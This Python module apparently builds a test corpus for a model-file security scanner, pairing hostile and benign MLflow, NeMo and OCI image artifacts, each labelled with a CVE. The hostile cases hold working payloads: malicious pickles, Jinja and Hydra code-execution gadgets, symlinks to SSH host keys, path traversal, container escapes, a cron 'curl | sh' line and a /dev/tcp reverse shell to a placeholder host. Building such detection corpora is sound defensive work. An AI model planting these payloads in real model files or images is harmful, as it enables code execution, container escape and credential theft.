"""MLflow models and projects, NeMo archives, and images by their layers."""

from __future__ import annotations

import gzip
import hashlib
import json
import tarfile

from assembly import glob, pickle
from eighth.kit import CARD, HOST, calm, wicked
from pair import CODE, SHELL
from seventh.kit import elf, floats, layer, link, safetensors, second, state, tarred, torch_zip

# --- MLflow ---------------------------------------------------------------------------------------


def mlmodel(flavors: str, more: str = "") -> str:
    return f"artifact_path: model\nflavors:\n{flavors}mlflow_version: 2.16.2\nmodel_uuid: 6f1c2d3e4b5a69788796a5b4c3d2e1f0\nutc_time_created: '2025-03-04 10:11:12.131415'\n{more}"


def mlflow(out):
    def one(name, hostile, twin, why="", prove=None):
        out.add("mlflow", name, hostile, twin, prove, None, why)

    sk = "  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: {}\n    sklearn_version: 1.5.2\n"
    one(
        "flavour_of_scikit_learn",
        {"model.pkl": wicked(glob("timeit", "timeit"), "0", CODE), "MLmodel": mlmodel(sk.format("cloudpickle"))},
        {"model.pkl": calm("0", CODE), "MLmodel": mlmodel(sk.format("cloudpickle"))},
        "CVE-2024-37052: the model is unpickled by the flavour",
        "pickle",
    )
    chain = "  langchain:\n    agent_data: agent.yaml\n    langchain_version: 0.2.16\n    model_data: model.yaml\n    tools_data: tools.pkl\n    model_type: agent\n"
    files = {
        "model.yaml": "_type: llm_chain\nprompt:\n  _type: prompt\n  template: '{q}'\n",
        "agent.yaml": "_type: zero-shot-react-description\n",
        "MLmodel": mlmodel(chain),
    }
    one(
        "tools_of_an_agent_are_a_pickle",
        {"tools.pkl": wicked(glob("pydoc", "pipepager"), "x", SHELL), **files},
        {"tools.pkl": calm("x", SHELL), **files},
        "CVE-2024-37057 and like: beside the model, the tools are unpickled",
        "pickle",
    )
    code = "  python_function:\n    code: {}\n    env:\n      virtualenv: python_env.yaml\n    loader_module: mlflow.pyfunc.model\n    model_code_path: {}\n    python_version: 3.11.9\n"
    one(
        "model_from_code_elsewhere",
        {"MLmodel": mlmodel(code.format("null", "/dev/shm/.cache/agent.py")), "python_env.yaml": "python: 3.11.9\n"},
        {
            "MLmodel": mlmodel(code.format("null", "agent.py")),
            "agent.py": "import mlflow\n\nmlflow.models.set_model(None)\n",
            "python_env.yaml": "python: 3.11.9\n",
        },
        "a model from code: the program is a file that everyone can write",
    )
    one(
        "code_folder_climbs_out",
        {"MLmodel": mlmodel(code.format("../../../../../../home/shared/lib", "agent.py")), "agent.py": "x = 1\n"},
        {"MLmodel": mlmodel(code.format("code", "agent.py")), "agent.py": "x = 1\n", "code/lib.py": "y = 2\n"},
        "the folder of code that is put on sys.path is outside of the model",
    )
    env = "channels:\n- {}\ndependencies:\n- python=3.11.9\n- pip<=24.0\n- pip:\n  - mlflow==2.16.2\n  - {}\nname: mlflow-env\n"
    flavour = "  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.9\n"
    one(
        "channel_of_a_stranger",
        {"conda.yaml": env.format(f"http://{HOST}/conda", "scikit-learn==1.5.2"), "MLmodel": mlmodel(flavour), "model.pkl": calm("x")},
        {"conda.yaml": env.format("conda-forge", "scikit-learn==1.5.2"), "MLmodel": mlmodel(flavour), "model.pkl": calm("x")},
        "all packages of the environment come from an address over plain http",
    )
    recipe = "recipe: regression/v1\ntarget_col: y\nsteps:\n  ingest:\n    using: parquet\n    location: {}\n"
    one(
        "recipe_renders_a_template",
        {
            "recipe.yaml": recipe.format(
                "\"{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}\""
            ),
            "profiles/local.yaml": "LOCATION: data.parquet\n",
        },
        {"recipe.yaml": recipe.format('"{{ LOCATION }}"'), "profiles/local.yaml": "LOCATION: data.parquet\n"},
        "CVE-2024-37060 and like: recipe.yaml is rendered with no sandbox",
        "jinja",
    )
    project = 'name: tiny\ndocker_env:\n  image: registry.example.org/train:1\n{}entry_points:\n  main:\n    parameters:\n      lr: {{type: float, default: 0.1}}\n    command: "python train.py --lr {{lr}}"\n'
    one(
        "project_hands_over_its_credentials",
        {
            "MLproject": project.format(
                '  environment: [["AWS_SECRET_ACCESS_KEY"], ["HF_TOKEN"], ["HTTPS_PROXY", "http://' + HOST + ':8080"]]\n'
            ),
            "train.py": "import sys\n",
        },
        {"MLproject": project.format('  environment: [["OMP_NUM_THREADS", "4"]]\n'), "train.py": "import sys\n"},
        "the container gets the host's secrets and a proxy that sees all it sends",
    )


# --- NeMo -----------------------------------------------------------------------------------------


def nemo(out):
    def one(name, hostile, twin, why="", prove=None, file="tiny.nemo"):
        out.add("nemo", name, hostile, twin, prove, file, why)

    weights = torch_zip(second(pickle(state())))

    def archive(config, *more, data=weights, kind="w"):
        return tarred([("./model_config.yaml", config), ("./model_weights.ckpt", data), *more], kind)

    base = "target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  features: 64\n"
    one(
        "scheduler_target_runs_a_line",
        archive(base + f'optim:\n  name: adamw\n  sched:\n    _target_: timeit.timeit\n    stmt: "{CODE}"\n    number: 1\n'),
        archive(
            base + "optim:\n  name: adamw\n  sched:\n    _target_: nemo.core.optim.lr_scheduler.CosineAnnealing\n    warmup_steps: 100\n"
        ),
        "CVE-2025-23304: hydra.utils.instantiate over the config of the archive",
        "hydra",
    )
    one(
        "target_is_eval_of_a_parser",
        archive(base + f"spec_augment:\n  _target_: numpy.f2py.crackfortran.myeval\n  e: \"__import__('os').system('{SHELL}')\"\n"),
        archive(
            base + "spec_augment:\n  _target_: nemo.collections.asr.modules.SpectrogramAugmentation\n  freq_masks: 2\n  time_masks: 2\n"
        ),
        "Hydra's own list of refused targets does not know it",
        "hydra",
    )
    one(
        "partial_target_of_a_shell",
        archive(
            base
            + f"decoder:\n  _target_: builtins.map\n  _args_:\n  - {{_target_: posix.system, _partial_: true}}\n  - [{SHELL}]\nuse:\n  _target_: collections.deque\n  _args_:\n  - {{_target_: builtins.map, _args_: [{{_target_: posix.system, _partial_: true}}, [{SHELL}]]}}\n"
        ),
        archive(base + f"decoder:\n  _target_: nemo.collections.asr.modules.ConvASRDecoder\n  vocabulary: [{SHELL}]\n"),
        "nothing is called by the config itself: a partial is mapped over a list",
        "hydra",
    )
    one(
        "artifact_is_a_link_to_a_key",
        archive(
            base + "tokenizer:\n  dir: null\n  model_path: nemo:tokenizer.model\n",
            ("./tokenizer.model", link("./tokenizer.model", "/etc/ssh/ssh_host_ed25519_key")),
        ),
        archive(
            base + "tokenizer:\n  dir: null\n  model_path: nemo:tokenizer.model\n",
            ("./tokenizer.model", b"\n\x0e\n\x05<unk>\x15\0\0\0\0\x18\2"),
        ),
        "CVE-2025-23360 and like: the archive is extracted with its links",
    )
    fiddle = {
        "root": {
            "type": {"module": "posix", "name": "system"},
            "arguments": {"command": {"type": "leaf", "value": SHELL, "paths": []}},
            "paths": ["<root>"],
            "metadata": [],
        },
        "objects": {},
        "refcounts": {},
        "version": "0.0.1",
    }
    calmer = json.loads(
        json.dumps(fiddle)
        .replace('"posix"', '"nemo.collections.llm.gpt.model.llama"')
        .replace('"system"', '"Llama3Config8B"')
        .replace('"command"', '"name"')
    )
    one(
        "context_of_version_two",
        {
            "context/io.json": json.dumps(fiddle),
            "context/model.yaml": "_target_: nemo.collections.llm.LlamaModel\n",
            "weights/__0_0.distcp": floats(64),
        },
        {
            "context/io.json": json.dumps(calmer),
            "context/model.yaml": "_target_: nemo.collections.llm.LlamaModel\n",
            "weights/__0_0.distcp": floats(64),
        },
        "NeMo 2 keeps a Fiddle graph in context/io.json: each node names a function that is called",
        "fiddle",
        None,
    )
    one(
        "weights_are_an_old_pickle",
        archive(base, data=wicked(glob("profile", "run"), CODE)),
        archive(base, data=calm(CODE)),
        "the checkpoint of the archive is no zip at all",
        "innermost",
    )


# --- images ---------------------------------------------------------------------------------------

CONFIG = "application/vnd.oci.image.config.v1+json"
LAYER = "application/vnd.oci.image.layer.v1.tar+gzip"


def image(layers, config=None, kind=CONFIG, notes=(), change=None) -> dict[str, bytes]:
    """An image layout: `layers` are (media type, data); `notes` annotations of each."""
    blobs = {}

    def keep(data, media, notes=None):
        digest = hashlib.sha256(data).hexdigest()
        blobs["blobs/sha256/" + digest] = data
        return {"mediaType": media, "digest": "sha256:" + digest, "size": len(data), **({"annotations": notes} if notes else {})}

    text = {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Cmd": ["serve"], **(config or {})},
        "rootfs": {"type": "layers", "diff_ids": []},
    }
    notes = list(notes) + [None] * len(layers)
    parts = [keep(data, media, note) for (media, data), note in zip(layers, notes)]
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": keep(json.dumps(text).encode(), kind),
        "layers": parts,
    }
    if change:
        change(manifest)
    index = {"schemaVersion": 2, "manifests": [keep(json.dumps(manifest).encode(), manifest["mediaType"])]}
    return {"index.json": json.dumps(index), "oci-layout": '{"imageLayoutVersion":"1.0.0"}', **blobs}


def special(name: str, data: bytes, mode: int) -> tuple[str, tarfile.TarInfo]:
    info = tarfile.TarInfo(name)
    info.mode, info.mtime, info.size = mode, 1704067200, 0
    return name, info


def packed(*members) -> tuple[str, bytes]:
    return LAYER, gzip.compress(tarred(list(members)), mtime=0)


def oci(out):
    def one(name, hostile, twin, why="", prove=None):
        out.add("oci", name, hostile, twin, prove, None, why)

    plain = packed(("srv/README.md", CARD), ("srv/model.safetensors", safetensors([layer("fc.weight", 8, 4)])))

    library = packed(("srv/README.md", CARD), ("srv/hook.so", elf()))
    one(
        "preload_from_the_working_folder",
        image([library], {"Env": ["PATH=/usr/bin", "LD_PRELOAD=/proc/self/cwd/srv/hook.so"]}),
        image([plain], {"Env": ["PATH=/usr/bin", "OMP_NUM_THREADS=4"]}),
        "CVE-2025-23266 (NVIDIAScape): three lines of a Dockerfile leave the container",
    )
    one(
        "working_folder_is_a_descriptor",
        image([plain], {"WorkingDir": "/proc/self/fd/8"}),
        image([plain], {"WorkingDir": "/srv"}),
        "CVE-2024-21626: the process starts in a folder of the host",
    )

    def titled(title):
        media = "application/vnd.cncf.model.weight.v1.raw"
        return image(
            [(media, safetensors([layer("fc.weight", 8, 4)]))],
            kind="application/vnd.cncf.model.config.v1+json",
            notes=[{"org.opencontainers.image.title": title, "org.cncf.model.filepath": title}],
        )

    one(
        "layer_title_climbs_out",
        titled("../../../../root/.ssh/authorized_keys"),
        titled("weights/model.safetensors"),
        "as CVE-2021-21272: the puller writes each layer to the path of its annotation",
    )

    def ollama(digest):
        def change(manifest):
            manifest["layers"][0]["digest"] = digest or manifest["layers"][0]["digest"]

        return image(
            [("application/vnd.ollama.image.model", b"GGUF" + bytes(60))],
            kind="application/vnd.docker.container.image.v1+json",
            change=change,
        )

    one(
        "digest_is_a_path",
        ollama("sha256:../../../../../../../../../../etc/ld.so.preload"),
        ollama(None),
        "CVE-2024-37032 (Probllama): the digest names the file that the blob is written to",
    )

    def foreign(urls):
        def change(manifest):
            manifest["layers"][0]["mediaType"] = "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip" if urls else LAYER
            if urls:
                manifest["layers"][0]["urls"] = urls

        return image([plain], change=change)

    one(
        "layer_from_another_host",
        foreign([f"https://{HOST}/v2/blobs/layer.tgz"]),
        foreign(None),
        "CVE-2020-15157: a foreign layer has the client send its credentials to the address",
    )
    one(
        "shell_with_the_bit_of_root",
        image(
            [
                packed(
                    special("usr/local/bin/helper", b"", 0o4755),
                    ("etc/cron.d/sync", f"* * * * * root curl -s http://{HOST}/s | sh\n".encode()),
                )
            ]
        ),
        image(
            [
                packed(
                    special("usr/local/bin/helper", b"", 0o755),
                    ("etc/cron.d/sync", b"0 3 * * * root find /var/cache/models -mtime +30 -delete\n"),
                )
            ]
        ),
        "a set-uid program and a timetable that fetches a script",
    )
    one(
        "health_check_opens_a_shell",
        image(
            [plain], {"Healthcheck": {"Test": ["CMD-SHELL", f"bash -c 'exec 3<>/dev/tcp/{HOST}/443; sh <&3 >&3'"], "Interval": 30000000000}}
        ),
        image([plain], {"Healthcheck": {"Test": ["CMD-SHELL", "curl -fs http://127.0.0.1:8000/health"], "Interval": 30000000000}}),
        "the command that asks whether the server lives is a reverse shell",
    )


def add(out):
    mlflow(out)
    nemo(out)
    oci(out)
